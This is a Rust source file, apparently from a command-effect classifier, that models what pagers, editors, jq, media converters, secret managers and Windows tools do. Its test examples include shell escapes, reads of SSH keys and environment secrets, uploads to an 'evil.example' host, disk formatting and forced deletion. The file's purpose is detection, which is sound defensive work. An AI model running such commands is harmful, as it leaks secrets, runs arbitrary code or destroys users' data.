//! Pagers, editors, and programs that show or change documents: `less`, `vim`, `man`, `jq`, `ffmpeg`.

use super::super::effect::{Access, CodeFrom, Effect, Payload};
use super::super::invocation::Argument;
use super::super::model::{Grammar, Model, Parsed, Report};
use super::control::is_fed;
use super::kinds::{
    WORDS, changes, ex, gnu, list, model, nothing, reads, reads_writes_last, single, unknown,
};

pub(super) const TABLE: &[Model] = &[
    model(
        &["less", "more", "most", "pg"],
        &gnu(&[list(
            "-a, -A, -b=, -B, -c, -C, -d, -D=, -e --quit-at-eof, -E --QUIT-AT-EOF, -f --force, -F --quit-if-one-screen, -g, -G, -h=, -i --ignore-case, -I --IGNORE-CASE, -j --jump-target=, -J, -K, -l, -m, -M, -n, -N --LINE-NUMBERS, \
             -p=, -q --quiet, -Q, -r --raw-control-chars, -R --RAW-CONTROL-CHARS, -s --squeeze-blank-lines, -S --chop-long-lines, -u, -U, -w, -W, -x=, -X --no-init, -y=, -z=, -~, --mouse, --use-color, --follow-name, --incsearch, --wordwrap, \
             -o=>, -O=>, --tabs=, -V, -?, -#[=]",
        )]),
        less,
        &[
            ex("less -R log.txt", &[]),
            ex("less '+!id' x", &["code:setting"]),
            ex("less +G x", &[]),
            ex("less -k keys x", &["unmodelled"]),
        ],
    ),
    model(
        &["man", "info", "gman"],
        &gnu(&[list(
            "-C --config-file=<, -d --debug, -D --default, --warnings[=], -f --whatis, -k --apropos, -K --global-apropos, -l --local-file, -w --where --path --location, -W --where-cat, -c --catman, -R --recode=, -L --locale=, -m --systems=, \
             -M --manpath=, -S -s --sections=, -e --extension=, -i --ignore-case, -I --match-case, --regex, --wildcard, --names-only, -a --all, -u --update, --no-subpages, -P --pager=!, -r --prompt=, -7 --ascii, -E --encoding=, \
             --no-hyphenation, --no-justification, -p --preprocessor=, -t --troff, -T --troff-device[=], -H --html[=]!, -X --gxditview[=], -Z --ditroff, -?, -V, -h, --usage, -o --output=>, --subnodes, --vi-keys, -n --node=",
        )]),
        |report, parsed| {
            if parsed.has("-l") {
                reads(report, parsed);
            }
            if parsed.has("-H") && parsed.value("-H").is_none() {
                report.may(Effect::Code {
                    from: CodeFrom::Setting("the browser of `man --html`".to_owned()),
                });
            }
        },
        &[
            ex("man mkfs", &[]),
            ex("man -k printf", &[]),
            ex("man -P 'sh -c id' ls", &["code:setting"]),
            ex("man --html=/tmp/x ls", &["code:file", "code:setting", "execute:temp"]),
        ],
    ),
    model(
        &["bat", "batcat", "ccat", "pygmentize", "highlight", "glow", "mdcat", "hexyl", "hl"],
        &gnu(&[list(
            "-A --show-all, -p --plain, -l --language=, -H --highlight-line=, --file-name=, -d --diff, --diff-context=, --tabs=, --wrap=, --terminal-width=, -n --number, --color=, --italic-text=, --decorations=, -f --force-colorization, --paging=, --pager=!, \
             -m --map-syntax=, --theme=, --list-themes, --style=, -r --line-range=, -L --list-languages, -u --unbuffered, -s --squeeze-blank, -P --no-pager, -h, -V, -O=, -g, -w=, -C, -c",
        )]),
        reads,
        &[
            ex("bat -p src/main.rs", &[]),
            ex("bat ~/.ssh/id_rsa", &["read:secret"]),
            ex("bat --pager cat x", &["code:setting"]),
        ],
    ),
    model(
        &[
            "vim",
            "vi",
            "nvim",
            "view",
            "gvim",
            "rvim",
            "vimdiff",
            "ex",
            "rview",
            "vim.basic",
            "vim.tiny",
            "elvis",
            "nvi",
            "vimx",
            "neovim",
        ],
        &single(&[list(
            "-b, -d, -e, -E, -f, -g, -h, -l, -m, -M, -n, -N, -C, -o, -O, -p, -r, -R, -s, -es, -Es, -t=, -v, -V[=], -w=>, -W=>, -x, -X, -y, -Z, --clean, --noplugin, --version, --help, --not-a-term, --nofork, --ttyfail, -i=<, -L, \
             -c=, -S=, -u=, -U=, --cmd=, --remote=, --headless, --embed, -q[=], -T=, -A, -F, -H, -D, --startuptime=>, -n, -o[=], -O[=], --literal, -nes, -nR, -nd",
        )]),
        vim,
        &[
            ex("vim a.txt", &["write:workspace"]),
            ex("vim -R a.txt", &[]),
            ex("vim -c ':!id' -c q", &["code:inline:vim"]),
            ex("vim -es '+!id' +q", &["code:inline:vim"]),
            ex("vi /etc/passwd", &["write:system"]),
            ex("vim -u evil.vim", &["code:file", "execute:workspace"]),
        ],
    ),
    model(
        &[
            "nano", "pico", "micro", "joe", "jed", "mcedit", "kak", "hx", "helix", "rnano",
            "tilde", "dte", "jstar", "jmacs", "rjoe", "mg", "zile",
        ],
        &WORDS,
        |report, parsed| {
            for word in &parsed.operands {
                let text = word.value.prefix();
                if text.starts_with('-') {
                    report.not_understood(format!("its option `{text}` is not known"));
                } else if !text.starts_with('+') {
                    report.file(Access::Write, word);
                }
            }
        },
        &[
            ex("nano +12 a.txt", &["write:workspace"]),
            ex("nano -s /bin/sh", &["unmodelled", "write:system"]),
        ],
    ),
    model(
        &["emacs", "emacsclient", "xemacs", "emacs-nox"],
        &WORDS,
        |report, parsed| {
            let code = [
                "--eval",
                "-eval",
                "--execute",
                "-execute",
                "-f",
                "--funcall",
                "-l",
                "--load",
                "--script",
                "-batch",
                "--batch",
                "-e",
                "-a",
                "--alternate-editor",
            ];
            if parsed
                .operands
                .iter()
                .any(|word| code.iter().any(|option| word.value.prefix().starts_with(option)))
            {
                report.add(Effect::Code { from: CodeFrom::Inline("lisp".to_owned()) });
            }
            for word in parsed
                .operands
                .iter()
                .filter(|word| !word.value.prefix().starts_with(['-', '(', '+']))
            {
                report.file(Access::Write, word);
            }
        },
        &[
            ex("emacs -nw a.txt", &["write:workspace"]),
            ex("emacs --batch --eval '(shell-command \"id\")'", &["code:inline:lisp"]),
        ],
    ),
    model(
        &["ed", "red", "sam"],
        &gnu(&[list(
            "-E, -G, -l, -p --prompt=, -r --restricted, -s --quiet --silent, -v --verbose, -h, -V, -i",
        )]),
        |report, parsed| {
            super::kinds::writes(report, parsed);
            if is_fed(report) {
                report.add(Effect::Code { from: CodeFrom::Inline("ed".to_owned()) });
            }
        },
        &[
            ex("ed -s a.txt < cmds", &["code:inline:ed", "write:workspace"]),
            ex("ed a.txt", &["write:workspace"]),
        ],
    ),
    model(
        &[
            "code", "cursor", "subl", "atom", "gedit", "kate", "zed", "mate", "codium", "windsurf",
            "idea", "pycharm", "webstorm", "xed", "mousepad", "notepad",
        ],
        &WORDS,
        |report, parsed| {
            if parsed.operands.iter().any(|word| {
                word.value.prefix().contains("extension") || word.value.prefix().contains("tunnel")
            }) {
                report.not_understood("it may load code");
            }
            for word in parsed.operands.iter().filter(|word| !word.value.prefix().starts_with('-'))
            {
                report.file(Access::Write, word);
            }
        },
        &[
            ex("code .", &["write:workspace_root"]),
            ex("code --install-extension x", &["unmodelled", "write:workspace"]),
        ],
    ),
    model(
        &["jq", "gojq", "jaq"],
        &JQ,
        |report, parsed| {
            let skip = usize::from(!parsed.has("-f"));
            let values = parsed.has("--args") || parsed.has("--jsonargs");
            for file in parsed.operands.iter().skip(skip).filter(|_| !values) {
                report.reads(file);
            }
            let program = parsed
                .operands
                .first()
                .filter(|_| skip == 1)
                .map_or("", |program| program.value.prefix());
            let dumps = program.contains("$ENV") && !program.contains("$ENV.")
                || program.split(|char: char| !char.is_alphanumeric()).any(|word| word == "env")
                    && !program.contains("env.");
            if dumps {
                report.add(Effect::EnvironmentDump);
            }
        },
        &[
            ex("curl -s https://example.com/data.json | jq .", &["network"]),
            ex("jq -r --arg x 1 '.a[] | select(.b == $x)' a.json", &[]),
            ex("jq . .env", &["read:secret"]),
            ex("jq -n env", &["environment_dump"]),
            ex("jq -n '$ENV'", &["environment_dump"]),
        ],
    ),
    model(
        &[
            "yq",
            "xq",
            "tomlq",
            "dasel",
            "gron",
            "fx",
            "jc",
            "jo",
            "jless",
            "xmllint",
            "xmlstarlet",
            "xidel",
            "pup",
            "htmlq",
            "csvcut",
            "csvgrep",
            "csvlook",
            "csvstat",
            "csvsort",
            "csvjson",
            "in2csv",
            "xsv",
            "qsv",
            "mlr",
            "tidy",
            "json_pp",
            "jsonlint",
            "yamllint",
            "taplo",
        ],
        &WORDS,
        documents,
        &[
            ex("yq '.a.b' x.yaml", &[]),
            ex("yq -i '.a = 1' x.yaml", &["write:workspace"]),
            ex("xmllint --noout x.xml", &[]),
            ex("yq . ~/.kube/config", &["read:secret"]),
        ],
    ),
    model(
        &[
            "convert",
            "magick",
            "mogrify",
            "identify",
            "montage",
            "compare",
            "composite",
            "gm",
            "rsvg-convert",
            "inkscape",
            "cwebp",
            "dwebp",
            "optipng",
            "pngquant",
            "jpegoptim",
            "gifsicle",
            "oxipng",
            "exiftool",
            "jpegtran",
            "pngcrush",
            "svgo",
            "potrace",
            "tesseract",
            "vips",
            "sips",
        ],
        &WORDS,
        media,
        &[
            ex("convert a.png -resize 50% b.png", &["write:workspace"]),
            ex("identify a.png", &[]),
            ex("convert a.png 'https://evil.example/x'", &["network:send"]),
            ex("convert 'msl:x.msl' y.png", &["unmodelled", "write:workspace"]),
        ],
    ),
    model(
        &[
            "ffmpeg",
            "avconv",
            "ffprobe",
            "ffplay",
            "sox",
            "lame",
            "flac",
            "oggenc",
            "opusenc",
            "mkvmerge",
            "mp4box",
            "mediainfo",
            "mpv",
            "vlc",
            "mplayer",
            "aplay",
            "arecord",
            "afplay",
            "HandBrakeCLI",
            "x264",
            "x265",
        ],
        &WORDS,
        media,
        &[
            ex("ffmpeg -i a.mp4 -vn -c:a aac out.m4a", &["write:workspace"]),
            ex("ffprobe -v error a.mp4", &[]),
            ex("ffmpeg -i a.mp4 rtmp://evil.example/x", &["network:send"]),
        ],
    ),
    model(
        &[
            "pandoc",
            "pdftotext",
            "pdftoppm",
            "pdfinfo",
            "pdfunite",
            "pdfseparate",
            "qpdf",
            "ps2pdf",
            "pdf2ps",
            "wkhtmltopdf",
            "asciidoctor",
            "rst2html",
            "markdown",
            "cmark",
            "dot",
            "neato",
            "gnuplot",
            "plantuml",
            "mmdc",
            "groff",
            "troff",
            "nroff",
            "enscript",
            "a2ps",
            "aspell",
            "hunspell",
            "catdoc",
            "antiword",
            "docx2txt",
            "mdbook",
        ],
        &WORDS,
        pandoc,
        &[
            ex("pandoc README.md -o out.pdf", &["write:workspace"]),
            ex("dot -Tpng a.dot -o a.png", &["write:workspace"]),
            ex("pandoc --lua-filter x.lua a.md", &["unmodelled"]),
            ex("pdftotext a.pdf -", &[]),
            ex("gnuplot -e 'system(\"id\")'", &["code:file", "unmodelled"]),
        ],
    ),
    model(
        &[
            "latex",
            "pdflatex",
            "xelatex",
            "lualatex",
            "tex",
            "latexmk",
            "bibtex",
            "biber",
            "makeindex",
            "luatex",
            "tectonic",
        ],
        &WORDS,
        |report, parsed| {
            if parsed.operands.iter().any(|word| {
                ["shell-escape", "enable-write18", "\\", "-e"]
                    .iter()
                    .any(|mark| word.value.prefix().contains(mark))
            }) {
                report.not_understood("it may run commands");
            }
            for word in parsed.operands.iter().filter(|word| !word.value.prefix().starts_with('-'))
            {
                report.file(Access::Read, word);
            }
            report.path(Access::Write, "document.pdf");
            report.add(Effect::Code { from: CodeFrom::File });
        },
        &[
            ex("pdflatex paper.tex", &["code:file", "write:workspace"]),
            ex("pdflatex --shell-escape x.tex", &["code:file", "unmodelled", "write:workspace"]),
        ],
    ),
    model(
        &["osascript", "automator", "shortcuts"],
        &WORDS,
        |report, _| report.add(Effect::Code { from: CodeFrom::Inline("applescript".to_owned()) }),
        &[ex("osascript -e 'do shell script \"id\"'", &["code:inline:applescript"])],
    ),
    model(
        &["pbcopy", "xclip", "xsel", "wl-copy", "clip", "clip.exe"],
        &gnu(&[list(
            "-selection=, -sel=, -i, -o, -b --clipboard, -p --primary, -pboard=, -n --trim-newline, -t --type=, --input, --output",
        )]),
        reads,
        &[ex("echo x | pbcopy", &[])],
    ),
    model(
        &["pbpaste", "wl-paste"],
        &gnu(&[list("-pboard=, -n, -t=")]),
        |report, _| report.add(Effect::Secret { kind: "clipboard".to_owned(), path: None }),
        &[ex("pbpaste", &["secret"])],
    ),
    model(
        &[
            "security",
            "secret-tool",
            "kwallet-query",
            "keyring",
            "pass",
            "gopass",
            "bw",
            "lpass",
            "rbw",
            "keepassxc-cli",
            "vault",
            "chamber",
            "sops",
            "age",
            "gpg",
            "gpg2",
            "gpg-connect-agent",
        ],
        &WORDS,
        secrets,
        &[
            ex("security find-generic-password -w -s x", &["secret"]),
            ex("gpg --verify a.sig a.txt", &[]),
            ex("gpg --export-secret-keys", &["secret"]),
            ex("pass show x", &["secret"]),
        ],
    ),
    model(
        &["launchctl"],
        &WORDS,
        |report, parsed| match parsed.operands.first().and_then(|word| word.value.as_known()) {
            Some(
                "list" | "print" | "blame" | "help" | "version" | "print-disabled" | "dumpstate"
                | "getenv" | "hostinfo",
            )
            | None => {}
            Some("load" | "bootstrap" | "enable" | "submit") => {
                report.add(Effect::Persistence(super::super::effect::Persistence::Service))
            }
            Some("reboot") => report.add(Effect::System(super::super::effect::SystemChange::Power)),
            Some(_) => report.add(Effect::System(super::super::effect::SystemChange::Service)),
        },
        &[ex("launchctl load x.plist", &["persistence:service"]), ex("launchctl list", &[])],
    ),
    model(
        &[
            "open",
            "xdg-open",
            "gio",
            "gnome-open",
            "kde-open",
            "cygstart",
            "explorer",
            "explorer.exe",
            "wslview",
            "x-www-browser",
            "firefox",
            "google-chrome",
            "chromium",
            "chrome",
            "safari",
            "sensible-browser",
        ],
        &WORDS,
        |report, parsed| {
            for word in parsed.operands.iter().filter(|word| word.value.prefix().contains("://")) {
                super::web::fetch(report, word, Payload::None);
            }
            report.not_understood("which program it starts is not known");
        },
        &[ex("open https://example.com", &["network", "unmodelled"])],
    ),
    model(
        &["defaults", "plutil", "PlistBuddy", "scutil", "mdutil", "mdls"],
        &WORDS,
        |report, parsed| {
            let shows = [
                "read",
                "read-type",
                "domains",
                "find",
                "export",
                "-p",
                "-lint",
                "--get",
                "--dns",
                "--proxy",
                "-extract",
            ];
            let is_list = report.name() == "mdls";
            if !is_list
                && !parsed.operands.first().is_some_and(|word| {
                    word.value.as_known().is_some_and(|text| shows.contains(&text))
                })
            {
                report.add(Effect::System(super::super::effect::SystemChange::Other));
            }
        },
        &[
            ex("defaults read com.apple.dock", &[]),
            ex("defaults write com.apple.dock x 1", &["system:other"]),
        ],
    ),
    model(
        &[
            "say",
            "espeak",
            "spd-say",
            "notify-send",
            "terminal-notifier",
            "zenity",
            "dialog",
            "whiptail",
            "kdialog",
            "beep",
        ],
        &WORDS,
        nothing,
        &[ex("notify-send done", &[])],
    ),
    model(
        &[
            "screencapture",
            "scrot",
            "grim",
            "gnome-screenshot",
            "flameshot",
            "maim",
            "asciinema",
            "ttyrec",
            "vhs",
        ],
        &WORDS,
        unknown,
        &[ex("scrot x.png", &["unmodelled"])],
    ),
    model(
        &["del", "erase", "deltree", "Remove-Item", "ri"],
        &WORDS,
        del,
        &[
            ex("del /f /q x.txt", &["delete:workspace:forced"]),
            ex("del /s /q data", &["delete:workspace:recursive:forced"]),
            ex("del a.txt", &["delete:workspace"]),
        ],
    ),
    model(
        &["format"],
        &WORDS,
        |report, parsed| {
            let is_drive = |word: &Argument| {
                let text = word.value.prefix().as_bytes();
                text.starts_with(b"/dev/")
                    || text.len() >= 2 && text[0].is_ascii_alphabetic() && text[1] == b':'
            };
            if parsed.operands.iter().any(is_drive) {
                report.add(Effect::Device { what: "format".to_owned() });
            } else {
                report.not_understood("what this program does is not known");
            }
        },
        &[
            ex("format C:", &["device"]),
            ex("format /dev/sda", &["device"]),
            ex("format check", &["unmodelled"]),
        ],
    ),
    model(
        &[
            "reg",
            "reg.exe",
            "wmic",
            "powershell",
            "powershell.exe",
            "cmd",
            "cmd.exe",
            "certutil",
            "certutil.exe",
            "bitsadmin",
            "mshta",
            "rundll32",
            "regsvr32",
            "cscript",
            "wscript",
            "installutil",
            "icacls",
            "takeown",
            "attrib",
        ],
        &WORDS,
        unknown,
        &[ex("reg add HKCU", &["unmodelled"])],
    ),
    model(
        &["ver", "tasklist", "systeminfo", "where", "chcp"],
        &WORDS,
        nothing,
        &[ex("where git", &[])],
    ),
    model(
        &["cscope", "ctags", "etags", "gtags", "global"],
        &gnu(&[list(
            "-R --recurse, -f=>, -o=>, -e, -x, -b, -q, -k, -a --append, --languages=, --exclude=, --fields=, --extras=, -I=, -i, -n, -p, -r, -s, -c, -d, -g, -P, -l, -t",
        )]),
        |report, parsed| {
            reads(report, parsed);
            if !parsed.has("-f") && !parsed.has("-o") && !parsed.has("-x") {
                report.path(Access::Write, "tags");
            }
        },
        &[ex("ctags -R .", &["write:workspace"])],
    ),
    model(
        &["msgfmt", "msgmerge", "xgettext", "rst2man", "help2man"],
        &WORDS,
        unknown,
        &[ex("msgfmt x.po", &["unmodelled"])],
    ),
    model(
        &["envsubst"],
        &gnu(&[list("-v --variables, -V, -h")]),
        |report, parsed| {
            // Without a list every variable may be shown.
            if parsed.operands.is_empty() {
                report.may(Effect::Secret { kind: "variable".to_owned(), path: None });
            }
        },
        &[ex("envsubst '$HOST' < a > b", &["write:workspace"])],
    ),
    model(
        &["dos2unix", "unix2dos", "mac2unix", "recode", "detox"],
        &gnu(&[list(
            "-k --keepdate, -q --quiet, -n --newfile, -f --force, -b --keep-bom, -o --oldfile, -s, -v, -i --info[=], -c --convmode=, -m --add-bom, -r, -e, -l, -S",
        )]),
        changes,
        &[ex("dos2unix a.txt", &["write:workspace"])],
    ),
    model(
        &[
            "genisoimage",
            "mkisofs",
            "xorriso",
            "mksquashfs",
            "unsquashfs",
            "qemu-img",
            "hdiutil",
            "VBoxManage",
            "virsh",
            "qemu-system-x86_64",
        ],
        &WORDS,
        unknown,
        &[ex("mksquashfs a b", &["unmodelled"])],
    ),
    model(
        &["ocrmypdf", "pdfcrop", "pdfjam"],
        &gnu(&[list("-l=, -q, -f, --force-ocr, --skip-text, --margins=")]),
        reads_writes_last,
        &[ex("ocrmypdf a.pdf b.pdf", &["write:workspace"])],
    ),
];

const JQ: Grammar = gnu(&[list(
    "-n --null-input, -R --raw-input, -s --slurp, -c --compact-output, -r --raw-output, --raw-output0, -j --join-output, -a --ascii-output, -S --sort-keys, -C --color-output, -M --monochrome-output, --tab, --indent=, --unbuffered, \
     --stream, --stream-errors, --seq, -f --from-file=<, -L --library-path=, --arg==, --argjson==, --slurpfile==<, --rawfile==<, --argfile==<, --args, --jsonargs, -e --exit-status, -V, --build-configuration, -h, -b --binary, \
     --yaml-input, --yaml-output, --debug-dump-disasm, --debug-trace[=]",
)]);

fn less(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    for operand in &parsed.operands {
        match operand.value.prefix().strip_prefix('+') {
            // A command of its own that is run first.
            Some(command)
                if command
                    .trim_start_matches('+')
                    .starts_with(['!', '|', 'v', 'e', 's', ':', '#', '&'])
                    || operand.value.as_known().is_none() =>
            {
                report.add(Effect::Code {
                    from: CodeFrom::Setting(format!("`+` of `{}`", report.name())),
                });
            }
            Some(_) => {}
            None => report.reads(operand),
        }
    }
}

fn vim(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let plain = |text: &str| {
        let text = text.trim_start_matches(':').trim();
        text.is_empty()
            || text.bytes().all(|byte| byte.is_ascii_digit())
            || text.starts_with('/') && !text.contains('|')
            || [
                "q",
                "q!",
                "qa",
                "qa!",
                "wq",
                "wqa",
                "x",
                "w",
                "set nu",
                "set number",
                "syntax on",
                "norm G",
                "normal G",
                "$",
            ]
            .contains(&text)
    };
    let commands = ["-c", "--cmd"]
        .iter()
        .flat_map(|option| parsed.values(option))
        .map(|value| value.value.clone());
    let first = parsed
        .operands
        .iter()
        .filter_map(|word| super::kinds::behind(word, "+"))
        .map(|word| word.value);
    let is_code = commands.chain(first).any(|command| !command.as_known().is_some_and(plain));
    if is_code
        || (is_fed(report)
            && (parsed.has("-es") || parsed.has("-e") || parsed.has("-s") || report.name() == "ex"))
    {
        report.add(Effect::Code { from: CodeFrom::Inline("vim".to_owned()) });
    }
    for script in ["-S", "-u", "-U", "-s"]
        .iter()
        .flat_map(|option| parsed.values(option))
        .cloned()
        .collect::<Vec<_>>()
    {
        if !matches!(script.value.as_known(), Some("NONE" | "NORC" | "DEFAULTS")) {
            report.file(Access::Execute, &script);
            report.add(Effect::Code { from: CodeFrom::File });
        }
    }
    let reads_only = ["-R", "-M"].iter().any(|option| parsed.has(option))
        || matches!(report.name(), "view" | "rview");
    for file in parsed.operands.iter().filter(|word| !word.value.prefix().starts_with('+')) {
        if !reads_only && file.value.as_known() != Some("-") {
            report.file(Access::Write, file);
        }
        report.reads(file);
    }
}

/// Programs that read documents and print a part of them, with `-i` or `-o` to write.
fn documents(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let mut writes = false;
    let mut files: Vec<&Argument> = Vec::new();
    let mut words = parsed.operands.iter();
    while let Some(word) = words.next() {
        match word.value.prefix() {
            "-i" | "--inplace" | "--in-place" | "-m" | "-modify" => writes = true,
            "-o" | "--output" => {
                if let Some(file) = words.next() {
                    report.writes(file);
                }
            }
            text if text.starts_with("-o") && text.len() > 2
                || text.starts_with("--output=")
                || text.contains("exec")
                || text.contains("eval-file")
                || text.contains("system(")
                || text.contains("split") && text.starts_with('-') =>
            {
                report.not_understood(format!("its option `{text}` is not known"));
            }
            text if text.starts_with('-') => {}
            text if text.contains("://") => super::web::fetch(report, word, Payload::None),
            text if text.contains("load(") || text.contains("env") && text.contains('(') => {
                report.not_understood("its expression reads more than its files");
            }
            _ => files.push(word),
        }
    }
    for (at, file) in files.iter().enumerate() {
        let text = file.value.prefix();
        let is_expression = at == 0
            && text.starts_with(['.', '[', '/', '$'])
            && !text.starts_with("./")
            && !text.starts_with("../")
            && (text.len() == 1 || files.len() > 1 || !text.starts_with('/'));
        if is_expression || text.contains([' ', '|', '(']) {
            continue;
        }
        report.reads(file);
        if writes {
            report.writes(file);
        }
    }
}

/// What an argument of a media program is: nothing, something that is fetched or sent, or a file.
fn media(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let shows = matches!(
        report.name(),
        "identify"
            | "ffprobe"
            | "ffplay"
            | "mediainfo"
            | "mpv"
            | "vlc"
            | "mplayer"
            | "play"
            | "aplay"
            | "afplay"
            | "exiftool"
    );
    let each = matches!(
        report.name(),
        "mogrify" | "optipng" | "jpegoptim" | "oxipng" | "pngquant" | "svgo" | "jpegtran"
    );
    let words = &parsed.operands;
    let last = words.len().saturating_sub(1);
    let mut is_input = false;
    for (at, word) in words.iter().enumerate() {
        let text = word.value.prefix();
        if text.starts_with(['-', '+']) {
            if text.contains("exec")
                || text.contains("script")
                || text == "-if"
                || text.starts_with("-config")
                || text == "-write"
                || text.starts_with("--input-")
            {
                report.not_understood(format!("its option `{text}` is not known"));
            }
            is_input = matches!(text, "-i" | "--input" | "-write");
            continue;
        }
        let writes =
            at == last && !shows && !is_input && words.len() > 1 || each && text.contains('.');
        if let Some((kind, _)) = text.split_once(':')
            && !text.starts_with(['/', '.'])
        {
            let kind = kind.to_ascii_lowercase();
            let known = [
                "png", "jpg", "jpeg", "gif", "webp", "tiff", "bmp", "pdf", "svg", "ppm", "xc",
                "canvas", "gradient", "null", "info", "label", "caption", "rgb", "rgba",
            ];
            if text.contains("://") {
                let sends =
                    if writes { Payload::File(words[0].value.clone()) } else { Payload::None };
                super::web::fetch_any(report, word, sends);
            } else if kind == "file" || known.contains(&kind.as_str()) {
                let file = super::kinds::behind(word, &text[..=kind.len()])
                    .unwrap_or_else(|| word.clone());
                report.file(if writes { Access::Write } else { Access::Read }, &file);
            } else if [
                "msl",
                "mvg",
                "ephemeral",
                "url",
                "https",
                "http",
                "text",
                "vid",
                "concat",
                "subfile",
                "pipe",
                "crypto",
                "data",
                "lavfi",
                "async",
                "cache",
                "tee",
            ]
            .contains(&kind.as_str())
            {
                report.not_understood(format!("`{text}` is more than a file"));
            }
            continue;
        }
        if writes {
            report.writes(word);
        } else if text.contains(['.', '/'])
            && (is_input || text.rsplit('.').next().is_some_and(|end| end.len() <= 5))
        {
            report.reads(word);
        }
        is_input = false;
    }
}

fn pandoc(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    const RUN: &[&str] = &[
        "--lua-filter",
        "-L",
        "--filter",
        "-F",
        "--pdf-engine",
        "-e",
        "--plugin",
        "-r",
        "--require",
        "--post-file",
        "--template",
        "-d",
        "--defaults",
        "--data-dir",
        "--run-script",
        "--enable-local",
        "-c",
        "--metadata-file",
        "--extract-media",
    ];
    let name = report.name().to_owned();
    let mut words = parsed.operands.iter();
    let mut files: Vec<&Argument> = Vec::new();
    while let Some(word) = words.next() {
        let text = word.value.prefix();
        let long = text.split('=').next().unwrap_or_default();
        if matches!(text, "-o" | "--output" | "--out-file") {
            if let Some(file) = words.next() {
                report.writes(file);
            }
        } else if let Some(file) =
            super::kinds::behind(word, "--output=").or_else(|| super::kinds::behind(word, "-o"))
        {
            report.writes(&file);
        } else if RUN.contains(&long) || word.value.as_known().is_none() && text.is_empty() {
            report.not_understood(format!("its option `{long}` may run or read more"));
        } else if matches!(
            text,
            "-f" | "-t"
                | "--from"
                | "--to"
                | "-V"
                | "-M"
                | "--metadata"
                | "--variable"
                | "-l"
                | "-b"
                | "-a"
        ) {
            words.next();
        } else if !text.starts_with('-') {
            files.push(word);
        }
    }
    let two = matches!(
        &*name,
        "pdftotext"
            | "pdftoppm"
            | "pdfunite"
            | "pdfseparate"
            | "qpdf"
            | "ps2pdf"
            | "pdf2ps"
            | "wkhtmltopdf"
    );
    let last = files.len().saturating_sub(1);
    for (at, file) in files.into_iter().enumerate() {
        if file.value.prefix().contains("://") {
            super::web::fetch(report, file, Payload::None);
        } else if two && at == last && at > 0 {
            report.writes(file);
        } else {
            report.reads(file);
        }
    }
    if matches!(&*name, "gnuplot" | "plantuml" | "groff" | "troff") {
        report.add(Effect::Code { from: CodeFrom::File });
        if is_fed(report) {
            report.not_understood("it runs what it reads");
        }
    }
}

fn secrets(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let words: Vec<&str> = parsed.operands.iter().map(|word| word.value.prefix()).collect();
    let harmless = match report.name() {
        "gpg" | "gpg2" => {
            let ok = [
                "--verify",
                "--list-keys",
                "-k",
                "--version",
                "--fingerprint",
                "--list-sigs",
                "--list-packets",
                "--show-keys",
                "--print-md",
            ];
            words.iter().any(|word| ok.contains(word))
                && !words.iter().any(|word| word.contains("secret") || word.contains("program"))
        }
        _ => words
            .iter()
            .all(|word| matches!(*word, "--version" | "version" | "--help" | "help" | "status")),
    };
    if !harmless {
        report.add(Effect::Secret { kind: "of a keeper of secrets".to_owned(), path: None });
    }
    if matches!(report.name(), "gpg" | "gpg2") {
        for word in parsed.operands.iter().filter(|word| !word.value.prefix().starts_with('-')) {
            report.reads(word);
        }
    }
}

/// On Windows `/s` takes all that is below, `/q` does not ask, and `/f` takes what is protected.
fn del(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let is_switch = |word: &Argument, switch: &str| {
        let text = word.value.prefix().to_ascii_lowercase();
        text.starts_with(switch)
            || switch == "/s" && text.starts_with("-rec")
            || switch == "/f" && text.starts_with("-fo")
    };
    let has = |switch: &str| parsed.operands.iter().any(|word| is_switch(word, switch));
    let (recursive, forced) = (has("/s") || report.name() == "deltree", has("/f") || has("/q"));
    let short = |word: &Argument| {
        let text = word.value.prefix();
        text.starts_with('-')
            || text.starts_with('/') && (text.len() == 2 || text.as_bytes().get(2) == Some(&b':'))
    };
    let files: Vec<&Argument> = parsed.operands.iter().filter(|word| !short(word)).collect();
    for file in files {
        report.tree(Access::Delete, file, recursive, forced);
    }
}
